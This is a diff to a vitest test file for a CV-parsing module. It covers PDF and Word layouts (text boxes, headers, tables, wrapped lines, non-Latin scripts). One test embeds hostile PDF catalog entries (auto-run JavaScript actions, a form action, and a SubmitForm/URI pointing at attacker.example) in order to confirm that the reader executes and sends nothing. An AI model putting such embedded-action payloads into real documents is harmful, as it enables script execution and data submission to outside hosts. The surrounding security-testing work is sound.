@@ -1,6 +1,6 @@
 import { strToU8, zipSync } from "fflate";
-import { describe, expect, test } from "vitest";
-import { docxOf, writeDocx } from "#tests/support/documents/docx-writer.ts";
+import { describe, expect, test, vi } from "vitest";
+import { docxOf, paragraph, tableOf, textBox, writeDocx } from "#tests/support/documents/docx-writer.ts";
 import { type PdfItem, textWidth, writePdf } from "#tests/support/documents/pdf-writer.ts";
 import { formatDateRange } from "../profile/date-range.ts";
 import type { PersonProfile } from "../profile/parse-profile.ts";
@@ -167,12 +167,110 @@ describe("PDF", () => {
     expect(text).not.toContain("text of page 51.");
   });
 
-  test("never runs a script of the file", async () => {
-    const catalog = "/OpenAction << /S /JavaScript /JS (globalThis.wasRun = true; app.alert\\(1\\)) >>";
+  test("never runs a script, a link or a form of the file", async () => {
+    const script = "(globalThis.wasRun = true; app.alert\\(1\\))";
+    const catalog = `/OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /JavaScript /JS ${script} >> >> /Names << /JavaScript << /Names [(run) << /S /JavaScript /JS ${script} >>] >> >> /AcroForm << /NeedAppearances true /Fields [<< /FT /Tx /T (name) /V (form value) /AA << /C << /S /JavaScript /JS ${script} >> >> >> << /FT /Btn /T (send) /A << /S /SubmitForm /F (https://attacker.example/) >> >>] >> /URI << /Base (https://attacker.example/) >>`;
+    const requested = vi.spyOn(globalThis, "fetch");
     const { problem, text } = await readBytes("cv.pdf", writePdf([page(CV.split("\n"))], { catalog }));
     expect(problem).toBeNull();
     expect(text).toContain("Celonis");
+    expect(text).not.toContain("form value");
     expect("wasRun" in globalThis).toBe(false);
+    expect(requested).not.toHaveBeenCalled();
+    requested.mockRestore();
+  });
+
+  test("reads a PDF of 25 MB", async () => {
+    const pdf = writePdf([page(CV.split("\n"))]);
+    const large = new Uint8Array(DOCUMENT_LIMITS.bytes).fill(32);
+    // Blanks between the objects and the table of their places, as pictures would be
+    large.set(pdf);
+    const { problem, textProfile } = await readBytes("cv.pdf", large);
+    expect(problem).toBeNull();
+    expect(positionsOf(textProfile)).toEqual(CV_POSITIONS);
+  });
+
+  test("joins the wrapped lines of a bullet and of a name in brackets", async () => {
+    const lines = [
+      { text: "Experience", x: 60, y: 60, size: 14 },
+      { text: "Head of Data (Platform Engineering, Developer", x: 60, y: 84, size: 11 },
+      { text: "2019 - 2020", x: 480, y: 84, size: 11 },
+      { text: "Experience and Tools)", x: 60, y: 98, size: 11 },
+      { text: "N26", x: 60, y: 112, size: 11 },
+      { text: "•", x: 64, y: 126, size: 11 },
+      { text: "Led the migration of the whole platform in four", x: 76, y: 126, size: 11 },
+      { text: "Countries", x: 76, y: 140, size: 11 },
+      { text: "Analyst", x: 60, y: 154, size: 11 },
+      { text: "2016 - 2018", x: 480, y: 154, size: 11 },
+      { text: "Celonis", x: 60, y: 168, size: 11 },
+    ];
+    const { text, textProfile } = await readBytes("cv.pdf", writePdf([lines]));
+    expect(text).toContain("(Platform Engineering, Developer Experience and Tools)\t2019 - 2020");
+    expect(text).toContain("in four Countries\n");
+    expect(textProfile?.positions.map(({ company }) => company)).toEqual(["N26", "Celonis"]);
+  });
+
+  test("joins the wrapped lines of a sentence whose bullet is drawn as a shape", async () => {
+    const entry = (y: number, title: string, dates: string, company: string) => [
+      { text: title, x: 60, y, size: 11 },
+      { text: dates, x: 552 - textWidth(dates, 11), y, size: 11 },
+      { text: company, x: 60, y: y + 14, size: 11 },
+    ];
+    const sentence = "Verantwortung für die Einführung der Plattform und Schulung der Kollegen an allen";
+    const lines = [
+      { text: "Berufserfahrung", x: 60, y: 60, size: 14 },
+      ...entry(84, "Projektleiterin", "2019 – 2021", "N26"),
+      { text: sentence, x: 552 - textWidth(`${sentence} `, 11), y: 112, size: 11 },
+      { text: "Standorten", x: 552 - textWidth(`${sentence} `, 11), y: 126, size: 11 },
+      ...entry(140, "Analystin", "2016 – 2018", "Celonis"),
+    ];
+    const { text, textProfile } = await readBytes("cv.pdf", writePdf([lines]));
+    expect(text).toContain("an allen Standorten\nAnalystin");
+    expect(positionsOf(textProfile)).toEqual([
+      "N26 | Projektleiterin | 2019 - 2021",
+      "Celonis | Analystin | 2016 - 2018",
+    ]);
+  });
+
+  test("reads a table of dates beside a column with its own headings", async () => {
+    const rows = [
+      ["2021 –", "Head of Data"],
+      ["heute", "N26"],
+      ["2019 –", "Analyst"],
+      ["2021", "Celonis"],
+      ["2016 –", "Engineer"],
+      ["2018", "Zalando"],
+    ].flatMap(([dates = "", text = ""], row) => [
+      { text: dates, x: 60, y: 90 + 14 * row, size: 11 },
+      { text, x: 150, y: 90 + 14 * row, size: 11 },
+    ]);
+    const side = ["Kenntnisse", "Python", "Excel", "Moderation", "Sprachen", "Deutsch", "English"].map((text, row) => ({
+      text,
+      x: 430,
+      y: 76 + 14 * row,
+      size: 11,
+    }));
+    const heading = { text: "Berufserfahrung", x: 60, y: 70, size: 14 };
+    const { textProfile } = await readBytes("cv.pdf", writePdf([[heading, ...rows, ...side]]));
+    expect(positionsOf(textProfile)).toEqual([
+      "N26 | Head of Data | 2021 - Present",
+      "Celonis | Analyst | 2019 - 2021",
+      "Zalando | Engineer | 2016 - 2018",
+    ]);
+  });
+
+  test.each([
+    {
+      language: "Georgian",
+      lines: ["გიორგი მაგალითი", "გამოცდილება", "თიბისი ბანკი", "ანალიტიკოსი", "მარტი 2019 – დღემდე"],
+    },
+    { language: "Arabic", lines: ["سيرة ذاتية", "الخبرة", "شركة المثال", "محلل بيانات", "٢٠١٩ - ٢٠٢١"] },
+    { language: "Thai", lines: ["ประวัติย่อ", "ประสบการณ์", "ธนาคารตัวอย่าง", "นักวิเคราะห์", "2562 - 2564"] },
+  ])("reads a CV in $language as text and invents nothing", async ({ lines }) => {
+    const { text, textProfile, problem } = await readBytes("cv.txt", strToU8(lines.join("\n")));
+    expect({ text, problem }).toEqual({ text: lines.join("\n"), problem: null });
+    for (const { company, title } of textProfile?.positions ?? [])
+      for (const name of [company, title]) if (name !== null) expect(lines).toContain(name);
   });
 });
 
@@ -199,6 +297,58 @@ describe("other kinds", () => {
       `<w:p><w:r><w:t>Engineer</w:t></w:r><w:del><w:r><w:delText>x</w:delText><w:t>deleted</w:t></w:r></w:del><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>`,
     );
     expect((await readBytes("cv.docx", tracked)).text).toBe("Engineer");
+  });
+
+  describe("a Word document", () => {
+    const CAREER = ["Berufserfahrung", "01/2019 – heute\tN26\tSoftware Engineer", "2016 – 2018\tCelonis\tAnalyst"];
+    const POSITIONS = ["N26 | Software Engineer | Jan 2019 - Present", "Celonis | Analyst | 2016 - 2018"];
+    const SIDEBAR = ["Kontakt", "Ida@mail.example", "Kiel", "Kenntnisse", "Python"];
+    const read = async (docx: Uint8Array) => readBytes("cv.docx", docx);
+    const pageBreak = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>';
+
+    test("with its career in a text box, once, after the paragraph that holds the box", async () => {
+      const anchor = `<w:p><w:r><w:t>Ida Beispiel</w:t></w:r>${textBox(SIDEBAR)}${textBox(CAREER)}</w:p>`;
+      const { text, textProfile } = await read(docxOf(`${anchor}${paragraph("• Deutsch")}`));
+      expect(text).toBe(`Ida Beispiel\n\n${SIDEBAR.join("\n")}\n\n${CAREER.join("\n")}\n\n• Deutsch`);
+      expect(positionsOf(textProfile)).toEqual(POSITIONS);
+      expect(textProfile?.fullName).toBe("Ida Beispiel");
+    });
+
+    test("with the name in its header, page numbers and a footer", async () => {
+      const number = paragraph("Seite 1 von 2");
+      const parts = {
+        header1: paragraph("Ida Beispiel") + paragraph("Lebenslauf") + number,
+        header2: paragraph("Ida Beispiel") + number,
+        footer1: paragraph("ida@mail.example") + number,
+      };
+      const { text, textProfile } = await read(docxOf(CAREER.map(paragraph).join(""), parts));
+      expect(text).toBe(`Ida Beispiel\nLebenslauf\n\n${CAREER.join("\n")}\n\nida@mail.example`);
+      expect(textProfile?.fullName).toBe("Ida Beispiel");
+      expect(positionsOf(textProfile)).toEqual(POSITIONS);
+    });
+
+    test("that is a table of a short and a long column, column by column", async () => {
+      const long = ["Ida Beispiel", ...CAREER, "Ausbildung", "2010 – 2015\tTU München", "Interessen", "Segeln"];
+      const { text, textProfile } = await read(docxOf(tableOf([[SIDEBAR.join("\n"), long.join("\n")]])));
+      expect(text).toBe(`${SIDEBAR.join("\n")}\n\n${long.join("\n")}`);
+      expect(positionsOf(textProfile)).toEqual(POSITIONS);
+    });
+
+    test("with a page break between two positions", async () => {
+      const body = [paragraph("Ida Beispiel"), paragraph(""), ...CAREER.slice(0, 2).map(paragraph), pageBreak];
+      const { textProfile } = await read(docxOf(body.concat(paragraph(CAREER[2] ?? "")).join("")));
+      expect(positionsOf(textProfile)).toEqual(POSITIONS);
+    });
+
+    test("says what it does not read, and that a picture has no text", async () => {
+      const note = "<w:p><w:r><w:t>Ida</w:t><w:footnoteReference/></w:r></w:p><w:altChunk/>";
+      expect((await read(docxOf(note))).notice).toBe("Not read: footnotes, embedded documents.");
+      const { problem } = await read(docxOf("<w:p><w:r><w:drawing/></w:r></w:p>"));
+      expect(problem).toEqual({
+        code: "picture_only",
+        message: "This Word document has no text. Save the CV as text first.",
+      });
+    });
   });
 
   test("reads LinkedIn's data archive", async () => {
